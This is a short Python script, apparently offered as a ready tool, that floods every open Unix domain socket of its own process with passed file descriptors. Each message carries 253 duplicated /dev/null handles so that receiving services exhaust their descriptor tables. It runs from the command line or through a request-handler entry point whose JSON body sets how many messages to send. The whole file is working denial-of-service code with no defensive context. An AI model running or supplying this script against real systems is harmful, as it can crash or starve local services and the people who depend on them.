"""Sends descriptors over every socket that this process has open: as a model, and as a plain program.

Who takes them without looking runs out of its own.
"""

import os
import socket
import sys

# The most that one message takes (SCM_MAX_FD).
MOST = 253


def flood(messages):
    """How many descriptors were sent."""
    sent, null = 0, os.open(os.devnull, os.O_RDONLY)
    for name in os.listdir("/proc/self/fd"):
        try:
            sock = socket.socket(fileno=os.dup(int(name)))
        except OSError:
            continue
        if sock.family != socket.AF_UNIX:
            continue
        sock.setblocking(False)
        for _ in range(messages):
            try:
                socket.send_fds(sock, [b"{}"], [null] * MOST)
                sent += MOST
            except OSError:
                break
    return sent


def handle_request(request, _context):
    return flood(request.body.json) if request.body.json else "well"


if __name__ == "__main__":
    print(flood(int(sys.argv[1])))
